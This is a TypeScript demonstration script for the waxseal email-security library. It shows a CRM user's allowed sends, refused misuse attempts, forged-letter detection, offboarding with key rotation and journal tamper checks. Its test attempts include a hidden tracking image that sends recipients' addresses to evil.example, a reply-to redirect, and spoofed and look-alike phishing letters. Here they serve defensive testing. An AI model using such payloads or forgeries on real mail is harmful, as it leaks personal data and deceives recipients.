import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileJournal, fileKeyRing, verifyJournalDirectory } from '@waxseal/journal/node'
import { createKeys, createKnowledge } from '@waxseal/keys'
import { dnsFromZone } from '@waxseal/provenance'
import { startSandbox } from '@waxseal/sandbox'
import { createUnisender } from '@waxseal/unisender'
import { type Answer, createWaxseal, type LetterVerdict, verifyReport } from 'waxseal'
import { base, fileOf, letter, policy, users, vip } from './crm.js'
import { deliver, forgerOf, referenceIn, withOtherPhone } from './forgeries.js'
import { formsOf, LeakScan } from './leak-scan.js'
import { Screen } from './screen.js'
import { createSmtpTransport } from './smtp.js'

const OFFICE = { ip: '203.0.113.7' }
const HOME = { ip: '198.51.100.24' }

const started = Date.now()
const screen = new Screen()
const directory = await mkdtemp(join(tmpdir(), 'waxseal-story-'))

screen.chapter('A CRM, a provider, a base of 2,000 people')
const sandbox = await startSandbox({
  directory,
  senders: ['news@romashka.example'],
  lists: [
    { id: '501', title: 'Saint Petersburg' },
    { id: '502', title: 'Moscow' },
  ],
})
const journal = await fileJournal(join(directory, 'journal'))
const keyRing = await fileKeyRing(join(directory, 'keys.json'))
const keys = createKeys({ journal, keyRing })
const knowledge = createKnowledge({ journal })
/** Where the CRM's services get their keys from. */
const services = new Map<string, string>()
const waxseal = await createWaxseal({
  provider: createUnisender({ baseUrl: sandbox.url, apiKey: () => sandbox.apiKey, poll: { first: 50, most: 500 } }),
  transport: createSmtpTransport(sandbox.submission),
  lists: { spb: '501', msk: '502', vip: { source: vip } },
  journal,
  keyRing,
  keys,
  offboarding: { deliver: ({ owner, key }) => void services.set(owner, key) },
  policy,
  principals: (id) => users.find((user) => user.id === id),
  identity: { name: 'Ромашка', domains: ['romashka.example'], accounts: { unisender: [sandbox.accountId] } },
})
screen.note(`the provider speaks HTTP at ${sandbox.url} and delivers by SMTP to port ${sandbox.receiver.port}`)

const crm = await waxseal.as('crm')
for (const list of ['spb', 'msk']) {
  const imported = expectDone(await crm.contacts.import(list, fileOf(list)))
  screen.note(`the CRM loads \`${list}\`: ${imported.accepted} accepted, ${imported.refused.length} refused`)
}
screen.note(`\`vip\` stays in the CRM's own database: ${base.filter(({ list }) => list === 'vip').length} people`)

/** Everything that reaches Maria's side goes through here: what calls return, and errors. What is printed, the screen keeps. */
const handedToMaria: string[] = []
async function maria<T>(answer: Promise<Answer<T>>): Promise<Answer<T>> {
  const value = await answer
  handedToMaria.push(formsOf(value))
  return value
}

screen.chapter('Maria, at the office')
const mail = await waxseal.as('maria', OFFICE)
handedToMaria.push(formsOf(mail))
const contacts = expectDone(await maria(mail.contacts.list('spb')))
screen.note(`she sees ${contacts.length} contacts of \`spb\`:`)
for (const { id, email, phone, fields } of contacts.slice(0, 3)) {
  screen.note(`   ${id.slice(0, 22)}…  ${email}  ${phone ?? ''}  ${fields.to_name ?? ''}`)
}
const sent = expectDone(await maria(mail.campaigns.send({ ...letter, list: 'spb' })))
screen.good('sends to `spb` from the office', `${sent.status}, seal ${sent.seal}`)
await screen.progress('letters delivered', contacts.length, () => sandbox.delivered(), sandbox.whenIdle())
const single = expectDone(await maria(mail.campaigns.send({ ...letter, list: 'vip' })))
screen.good('sends to `vip`, letter by letter', `${single.status}: ${single.letters?.accepted} letters through SMTP`)
await sandbox.whenIdle()

screen.chapter('What Maria may not do')
const atHome = await waxseal.as('maria', HOME)
const someone = contacts[0]?.id ?? ''
const guessed = someone.slice(0, -1) + (someone.endsWith('A') ? 'B' : 'A')
const spying = '<p>Spring!</p><img src="https://evil.example/?e={{Email}}" width="1" height="1">'
const attempts: [string, Promise<Answer<unknown>>][] = [
  ['sends from home', atHome.campaigns.send({ ...letter, list: 'spb' })],
  ['sends to `msk`', mail.campaigns.send({ ...letter, list: 'msk' })],
  ['exports `spb`', mail.contacts.export('spb')],
  ['guesses a contact id', mail.contacts.get('spb', guessed)],
  ['hides a tracking image', mail.campaigns.send({ ...letter, list: 'spb', html: spying })],
  [
    'asks for replies to her own address',
    mail.campaigns.send({ ...letter, list: 'vip', replyTo: 'maria@evil.example' }),
  ],
  ['puts the address into the subject', mail.campaigns.send({ ...letter, list: 'spb', subject: 'For {{Email}}' })],
]
for (const [what, attempt] of attempts) {
  const answer = await maria(attempt)
  if (answer.ok) throw new Error(`was allowed: ${what}`)
  screen.bad(what, answer.message)
}
sandbox.fault({ method: 'async/exportContacts', kind: 'html' })
const broken = await maria(mail.contacts.list('spb'))
if (!broken.ok) screen.bad('lists while the provider is broken', broken.message)
await waxseal.as('maria', { ip: 7 } as never).catch((error: unknown) => handedToMaria.push(formsOf(error)))

screen.chapter('A letter comes back: is it ours?')
const files = await sandbox.letters()
const delivered = sandbox.delivered()
const letters = await Promise.all(files.map((file) => readFile(file)))
const genuine = find(letters, sent.seal)
const sealed = letters.find((file) => /^x-waxseal:/im.test(file.toString('latin1')))
if (sealed === undefined) throw new Error('no letter with a whole seal arrived')
const reference = referenceIn(genuine.toString('latin1'))
await deliver(sandbox.receiver, {
  from: 'Shop <sale@shop.example>',
  to: 'friend@mail.example',
  subject: 'Flowers',
  text: `Cheap flowers!\n\nWaxseal: ${reference}\n`,
})
const forger = forgerOf('romashka-news.example')
await deliver(sandbox.receiver, {
  dkim: forger.dkim,
  from: 'Ромашка <news@romashka-news.example>',
  to: 'friend@mail.example',
  subject: 'Spring at Romashka',
  text: 'Pay here: https://romashka-news.example/pay\n',
})
await sandbox.whenIdle()
const forged = await Promise.all(
  (await sandbox.letters()).filter((file) => !files.includes(file)).map((file) => readFile(file)),
)
await judge('a delivered letter of the campaign', genuine, 'ours')
await judge('a single letter with the whole seal', sealed, 'ours')
await judge('with another phone in the body', withOtherPhone(genuine), 'spoofed')
await judge('the seal pasted into a foreign letter', find(forged, reference), 'unknown')
await judge('a look-alike domain, properly signed', find(forged, 'romashka-news.example/pay'), 'lookalike')

screen.chapter('Maria leaves')
const { key, series } = await keys.issue({ owner: 'crm-backend', scopes: ['campaigns.send.email'], lists: ['501'] })
await knowledge.note({ type: 'container.filled', container: 'template/welcome', what: `key/${series}` })
await knowledge.note({ type: 'secret.revealed', principal: 'maria', what: 'template/welcome' })
screen.note('the back end has an API key; it stands in a template that she could open')
const plan = await waxseal.offboard('maria', { by: 'crm' })
for (const line of plan.print().split('\n')) screen.note(`   ${line}`)
const { complete, report } = await plan.run()
if (!complete) throw new Error('the offboarding is not complete')
const late = await maria(mail.lists.list())
if (late.ok) throw new Error('she is still let in')
screen.bad('lists once more', late.message)
const before = keys.verify(key)
if (before.ok || !keys.verify(services.get('crm-backend') ?? '').ok) throw new Error('the wrong key works')
screen.bad('the key that she could know', before.code)
screen.good('the back end has a new one', 'delivered before the old one died')
const proof = await verifyReport(report, { jwks: await waxseal.reportJwks(), journal })
if (!proof.ok) throw new Error(`the report does not verify: ${proof.code}`)
screen.good(
  'the report is signed and on the record',
  `${proof.report.deeds.length} deeds, hash ${proof.hash.slice(0, 16)}…`,
)

screen.chapter('The record')
const head = journal.head()
await journal.close()
const whole = await verifyJournalDirectory(join(directory, 'journal'), { expect: head })
if (!whole.ok) throw new Error(`the journal does not verify: ${whole.message}`)
screen.good('the journal verifies', `${whole.head.size} events, root ${whole.head.root.slice(0, 16)}…`)
const copy = join(directory, 'copy')
const changedAt = await copyWithOneByteChanged(join(directory, 'journal'), copy)
const forgery = await verifyJournalDirectory(copy)
if (forgery.ok) throw new Error('a changed journal verified')
screen.bad(
  `a copy with byte ${changedAt} changed`,
  `line ${forgery.line}, which begins at byte ${forgery.byte}: ${forgery.message}`,
)

screen.chapter('What reached Maria')
const scan = new LeakScan(base)
const handed = [...handedToMaria, ...screen.printed].join('\n')
const record = await readJournalText(join(directory, 'journal'))
const seconds = ((Date.now() - started) / 1000).toFixed(1)
const inBase = scan.addresses(base.map(({ email }) => email).join('\n'))
const reached = scan.addresses(handed)
const phones = scan.phones(handed)
const onRecord = scan.addresses(record)
screen.table([
  ['addresses that reached Maria', String(reached)],
  ['phones that reached Maria', String(phones)],
  ['addresses in the journal', String(onRecord)],
  ['letters delivered', `${delivered}`],
  ['attempts refused', String(attempts.length)],
  ['contacts in the base', String(base.length)],
])
screen.note(
  `counted in the ${handed.length} characters that she got: answers, errors, what was printed, and how they inspect;`,
)
screen.note(`the same scan over the base itself finds ${inBase} of ${base.length}. ${seconds} seconds.`)
await sandbox.stop()
await rm(directory, { recursive: true, force: true })
if (reached + phones + onRecord > 0 || inBase !== base.length) process.exitCode = 1

async function judge(what: string, file: Uint8Array, wanted: LetterVerdict['kind']): Promise<void> {
  const verdict = await waxseal.verify(file, { dns: dnsFromZone({ ...sandbox.zone, ...forger.zone }) })
  if (verdict.kind !== wanted) throw new Error(`${what}: ${verdict.kind} instead of ${wanted}`)
  const { kind, record, summary } = verdict
  if (record === undefined) screen.bad(what, `${kind}: ${summary}`)
  else screen.good(what, `ours: campaign ${record.campaign} to \`${record.list}\`, sent by \`${record.principal}\``)
  const weighty = verdict.statements.filter(({ strength, code }) =>
    kind === 'ours' ? strength === 'proved' && code !== 'dkim-other-domain' : strength !== 'proved',
  )
  for (const { strength, text, rule } of weighty.slice(0, 4)) {
    screen.evidence(strength, rule === undefined ? text : `${text} (${rule})`)
  }
}

function find(files: readonly Buffer[], text: string): Buffer {
  const found = files.find((file) => file.includes(text))
  if (found === undefined) throw new Error(`no letter holds \`${text}\``)
  return found
}

function expectDone<T>(answer: Answer<T>): T {
  if (answer.ok) return answer.value
  throw new Error(`refused at ${answer.stage}: ${answer.code}: ${answer.message}`)
}

async function copyWithOneByteChanged(from: string, to: string): Promise<number> {
  await cp(from, to, { recursive: true })
  const file = (await readdir(to)).find((name) => name.endsWith('.jsonl')) ?? ''
  const bytes = await readFile(join(to, file))
  const at = bytes.indexOf('"maria"') + 1
  bytes[at] = 'M'.charCodeAt(0)
  await writeFile(join(to, file), bytes)
  return at
}

async function readJournalText(from: string): Promise<string> {
  const names = (await readdir(from)).filter((name) => name.endsWith('.jsonl'))
  return (await Promise.all(names.map((name) => readFile(join(from, name), 'utf8')))).join('\n')
}
